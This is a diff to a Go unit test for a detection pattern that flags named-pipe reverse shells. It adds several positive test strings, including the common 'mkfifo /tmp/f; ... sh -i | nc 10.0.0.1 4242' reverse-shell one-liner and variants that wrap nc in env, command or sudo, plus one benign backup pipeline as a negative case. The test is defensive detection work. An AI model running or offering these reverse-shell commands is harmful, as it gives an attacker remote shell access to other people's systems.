@@ -31,6 +31,14 @@ func TestNamedPipeShellRelayPattern(t *testing.T) {
 		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | exec nc 10.0.0.1 80 > /tmp/w",
 		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | busybox timeout -s KILL 9 nc 10.0.0.1 80 > /tmp/w",
 		"mkfifo /tmp/w; nc 10.0.0.1 80 < /tmp/w | env -i /bin/sh > /tmp/w",
+		// The one-liner as usually pasted: no spaces around the pipes.
+		"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+		"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+		"mkfifo /tmp/f;nc 10.0.0.1 4242 </tmp/f|sh >/tmp/f 2>&1",
+		"mkfifo f;cat f|sh -i 2>&1|nc 10.0.0.1 4242 >f",
+		"mkfifo /tmp/e; cat /tmp/e | sh -i 2>&1 | env FOO=1 nc 10.0.0.1 80 > /tmp/e",
+		"mkfifo /tmp/e; cat /tmp/e | sh -i 2>&1 | command nc 10.0.0.1 80 > /tmp/e",
+		"mkfifo /tmp/e; cat /tmp/e | sh -i 2>&1 | sudo nc 10.0.0.1 80 > /tmp/e",
 	} {
 		if !p.re.MatchString(l) {
 			t.Errorf("no match: %q", l)
@@ -43,6 +51,7 @@ func TestNamedPipeShellRelayPattern(t *testing.T) {
 		"mkfifo /run/app/ctl; tail -f /run/app/ctl | /usr/bin/app --shell-compatible",
 		"mkfifo /tmp/p; ./backup.sh | nc backup.internal 9000",
 		"mkfifo /tmp/p; nc -l 9000 < /tmp/p | ./restore.sh",
+		"mkfifo /tmp/p;./backup.sh|nc backup.internal 9000",
 	} {
 		if p.re.MatchString(l) {
 			t.Errorf("matches the benign %q", l)
